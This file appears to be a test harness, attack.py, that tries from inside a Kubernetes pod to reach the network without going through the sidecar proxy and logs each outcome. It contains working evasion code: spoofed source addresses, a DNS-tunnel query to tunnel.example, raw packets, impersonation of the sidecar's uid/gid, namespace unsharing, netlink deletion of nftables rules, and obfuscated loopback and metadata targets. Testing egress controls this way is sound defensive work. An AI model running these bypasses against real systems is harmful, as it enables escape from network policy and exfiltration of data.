"""Every way out of a pod that does not ask the proxy, tried from inside. One line of JSON per try: what, and what came of it.

attack.py '{"four": [addresses], "six": [addresses], "ports": [numbers], "own": [addresses of the pod],
           "gateway": "fe80::1%eth0", "allowed": "name:port", "uid": 1, "gid": 1}'
"""

import errno
import json
import os
import socket
import ssl
import struct
import sys
import threading

TIMEOUT = 1.0
PORTS = [22, 25, 53, 80, 443, 853, 3306, 5432, 6443, 8443, 10250, 15001, 15443]
UDP_PORTS = [53, 123, 443, 500, 853, 4500, 51820]

plan = json.loads(sys.argv[1])
output = threading.Lock()


def attempt(what, action):
    try:
        outcome = action() or "done"
    except OSError as error:
        outcome = errno.errorcode.get(error.errno, str(error)) if error.errno else str(error)
    except Exception as error:
        outcome = f"{type(error).__name__}: {error}"
    with output:
        print(json.dumps({"what": what, "outcome": outcome}), flush=True)


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def new(family, kind=socket.SOCK_STREAM, protocol=0):
    sock = socket.socket(family, kind, protocol)
    sock.settimeout(TIMEOUT)
    return sock


def http(sock, host):
    sock.sendall(f"GET / HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n".encode())
    return "answered " + sock.recv(64).split(b"\r\n")[0].decode(errors="replace")


def tls(sock, host):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(sock, server_hostname=host) as inner:
        return http(inner, host or "nobody")


def tcp(address, port):
    with new(family_of(address)) as sock:
        sock.connect((address, port))
        # A name that is allowed, at an address that is not.
        host = plan["allowed"].split(":")[0]
        return tls(sock, host) if port in (443, 8443) else http(sock, host)


def without_name(address):
    with new(family_of(address)) as sock:
        sock.connect((address, 443))
        return tls(sock, None)


def fast_open(address):
    with new(family_of(address)) as sock:
        sock.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (address, 443))
        return "answered " + sock.recv(16).decode(errors="replace")


def bound_to_device(address, port):
    with new(family_of(address)) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        sock.connect((address, port))
        return http(sock, "nobody")


def from_loopback(address):
    with new(family_of(address)) as sock:
        sock.bind(("::1" if ":" in address else "127.0.0.1", 0))
        sock.connect((address, 8443))


def no_route(address):
    with new(family_of(address), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        sock.sendto(b"x", (address, 4000))


def marked(address):
    with new(family_of(address)) as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 0x6F757472)  # SO_MARK
        sock.connect((address, 8443))


def own_address(address):
    return next((own for own in plan["own"] if (":" in own) == (":" in address)), "::1" if ":" in address else "127.0.0.1")


def in_its_name(address, kind):
    """A socket with another host's address, which IPv6 grants to everybody (IPV6_FREEBIND)."""
    sock = new(family_of(address), kind)
    six = ":" in address
    sock.setsockopt(socket.IPPROTO_IPV6 if six else socket.IPPROTO_IP, 78 if six else 15, 1)
    sock.bind((address, 0))
    return sock


def forged_question(address):
    """Sends the pod what looks as if it came from there, then the answer to it."""
    with new(family_of(address), socket.SOCK_DGRAM) as ours, in_its_name(address, socket.SOCK_DGRAM) as theirs:
        ours.bind((own_address(address), 0))
        theirs.sendto(b"hello", ours.getsockname()[:2])
        ours.sendto(b"secret", theirs.getsockname()[:2])
        return "sent"


def forged_connection(address):
    """The second packet of its handshake would go there."""
    with new(family_of(address)) as ours, in_its_name(address, socket.SOCK_STREAM) as theirs:
        ours.bind((own_address(address), 0))
        ours.listen()
        theirs.connect(ours.getsockname()[:2])
        return "connected"


def forged_to_sidecar(address):
    """Has the sidecar answer there, from the port of its that listens beyond loopback."""
    with in_its_name(address, socket.SOCK_STREAM) as theirs:
        theirs.connect((own_address(address), 15020))
        return "connected"


def udp(address, port, payload=b"x" * 32):
    with new(family_of(address), socket.SOCK_DGRAM) as sock:
        sock.sendto(payload, (address, port))
        return "answered %d bytes" % len(sock.recv(512))


def udp_connected(address, port):
    with new(family_of(address), socket.SOCK_DGRAM) as sock:
        sock.connect((address, port))
        for _ in range(3):
            sock.send(b"x")
        return "answered %d bytes" % len(sock.recv(512))


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 4660, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tunnel(address):
    """A name that carries data, as a DNS tunnel asks it: answered here or nowhere."""
    with new(family_of(address), socket.SOCK_DGRAM) as sock:
        sock.sendto(question("a1b2c3d4e5f6." * 4 + "tunnel.example", 16), (address, 53))
        answer = sock.recv(512)
        return "answered with code %d" % (answer[3] & 15)


def other_protocol(address, kind, protocol):
    with new(family_of(address), kind, protocol) as sock:
        if kind == socket.SOCK_STREAM:
            sock.connect((address, 9000))
        else:
            sock.sendto(b"x" * 16, (address, 9000))


def ping(address, kind):
    protocol = socket.IPPROTO_ICMPV6 if ":" in address else socket.IPPROTO_ICMP
    with new(family_of(address), kind, protocol) as sock:
        echo = bytes([128 if ":" in address else 8, 0, 0, 0, 0, 1, 0, 1]) + b"secret"
        sock.sendto(echo, (address, 0))
        return "answered %d bytes" % len(sock.recv(512))


def raw(address):
    with new(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        header = struct.pack(">BBHHHBBH4s4s", 69, 0, 28, 1, 0, 64, 17, 0, b"\0" * 4, socket.inet_aton(address))
        sock.sendto(header + struct.pack(">HHHH", 9, 9, 8, 0), (address, 0))


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) as sock:
        sock.bind(("eth0", 0))
        sock.send(b"\xff" * 12 + b"\x08\x00" + b"\0" * 46)


def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect((2, 22))


def become_sidecar(uid, gid, address):
    """Whoever guesses them could pass, so assume that they are known. What opens becomes a try in a child."""
    child = os.fork()
    if child == 0:
        try:
            if gid is not None:
                os.setgroups([])
                os.setgid(gid)
            if uid is not None:
                os.setuid(uid)
            tcp(address, 8443)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno or 255)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code != 0:
        raise OSError(code, "refused")
    return "became it, and passed"


def new_network():
    os.unshare(0x40000000) if hasattr(os, "unshare") else fail_to_unshare()


def fail_to_unshare():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return "a network of its own, which leads nowhere"


def forget_rules():
    """Netlink to nftables: delete the table. Needs a capability that nobody here has."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as sock:
        body = struct.pack(">BBH", 1, 0, 0)
        message = struct.pack("=IHHII", 16 + len(body), (10 << 8) | 2, 0x5, 1, 0) + body
        batch = [
            struct.pack("=IHHIIBBH", 20, 16, 1, 0, 0, 0, 0, socket.htons(10)),
            message,
            struct.pack("=IHHIIBBH", 20, 17, 1, 2, 0, 0, 0, socket.htons(10)),
        ]
        sock.send(b"".join(batch))
        code = struct.unpack("=i", sock.recv(4096)[16:20])[0]
        if code < 0:
            raise OSError(-code, "netlink")


def through_proxy(target, form):
    with new(socket.AF_INET) as sock:
        sock.connect(("127.0.0.1", 15001))
        if form == "CONNECT":
            sock.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\n".encode())
            first = sock.recv(64)
            if b" 200 " not in first:
                return "refused " + first.split(b"\r\n")[0].decode()
            host = target.rsplit(":", 1)[0].strip("[]")
            return tls(sock, host)
        sock.sendall(f"GET http://{target}/ HTTP/1.1\r\nhost: {target}\r\nconnection: close\r\n\r\n".encode())
        return "refused " + sock.recv(64).split(b"\r\n")[0].decode()


def main():
    tries = []
    addresses = plan["four"] + plan["six"]
    for address in addresses:
        for port in PORTS + plan["ports"]:
            tries.append((f"tcp {address} {port}", lambda a=address, p=port: tcp(a, p)))
        for port in UDP_PORTS:
            tries.append((f"udp {address} {port}", lambda a=address, p=port: udp(a, p)))
        tries += [
            (f"tls without a name {address}", lambda a=address: without_name(a)),
            (f"fast open {address}", lambda a=address: fast_open(a)),
            (f"forged question {address}", lambda a=address: forged_question(a)),
            (f"forged connection {address}", lambda a=address: forged_connection(a)),
            (f"forged to the sidecar {address}", lambda a=address: forged_to_sidecar(a)),
            (f"bound to eth0 {address} 443", lambda a=address: bound_to_device(a, 443)),
            (f"bound to eth0 {address} 8443", lambda a=address: bound_to_device(a, 8443)),
            (f"from loopback {address}", lambda a=address: from_loopback(a)),
            (f"without a route {address}", lambda a=address: no_route(a)),
            (f"with a mark {address}", lambda a=address: marked(a)),
            (f"udp connected {address} 443", lambda a=address: udp_connected(a, 443)),
            (f"udp connected {address} 9999", lambda a=address: udp_connected(a, 9999)),
            (f"dns tunnel {address}", lambda a=address: tunnel(a)),
            (f"udplite {address}", lambda a=address: other_protocol(a, socket.SOCK_DGRAM, 136)),
            (f"sctp {address}", lambda a=address: other_protocol(a, socket.SOCK_STREAM, 132)),
            (f"dccp {address}", lambda a=address: other_protocol(a, 6, 33)),
            (f"mptcp {address}", lambda a=address: other_protocol(a, socket.SOCK_STREAM, 262)),
            (f"ping {address}", lambda a=address: ping(a, socket.SOCK_DGRAM)),
            (f"raw icmp {address}", lambda a=address: ping(a, socket.SOCK_RAW)),
        ]
    for address in plan["four"]:
        mapped = f"::ffff:{address}"
        tries += [
            (f"tcp {mapped} 443", lambda a=mapped: tcp(a, 443)),
            (f"tcp {mapped} 8443", lambda a=mapped: tcp(a, 8443)),
            (f"udp {mapped} 443", lambda a=mapped: udp(a, 443)),
            (f"raw ip {address}", lambda a=address: raw(a)),
        ]
        for form in ("CONNECT", "absolute"):
            for port in (443, 80, 8443):
                target = f"{address}:{port}"
                tries.append((f"{form} {target}", lambda t=target, f=form: through_proxy(t, f)))
    for spelling in ("2130706433:443", "0x7f.1:443", "127.0.0.1:15001", "127.0.0.1:15020", "[::1]:15443", "[::ffff:a9fe:a9fe]:443"):
        tries.append((f"CONNECT {spelling}", lambda t=spelling: through_proxy(t, "CONNECT")))
    for target in ("224.0.0.1", "255.255.255.255", "ff02::1%eth0", plan["gateway"]):
        if target:
            tries.append((f"udp {target} 5353", lambda a=target: udp_scoped(a)))
    tries += [
        ("a frame on eth0", packet),
        ("a vsock to the host", vsock),
        ("the sidecar's uid and gid", lambda: become_sidecar(plan["uid"], plan["gid"], addresses[0])),
        ("the sidecar's uid", lambda: become_sidecar(plan["uid"], None, addresses[0])),
        ("the sidecar's gid", lambda: become_sidecar(None, plan["gid"], addresses[0])),
        ("a network of its own", new_network),
        ("the rules' end", forget_rules),
    ]
    # Side by side, since most of them wait until they give up. What changes the process comes last and alone.
    alone = tries[-5:]
    queue = iter(tries[:-5])
    lock = threading.Lock()

    def work():
        while True:
            with lock:
                following = next(queue, None)
            if following is None:
                return
            attempt(*following)

    workers = [threading.Thread(target=work) for _ in range(24)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    for each in alone:
        attempt(*each)


def udp_scoped(target):
    info = socket.getaddrinfo(target, 5353, 0, socket.SOCK_DGRAM)[0]
    with new(info[0], socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(b"x", info[4])
        return "answered %d bytes" % len(sock.recv(512))


main()
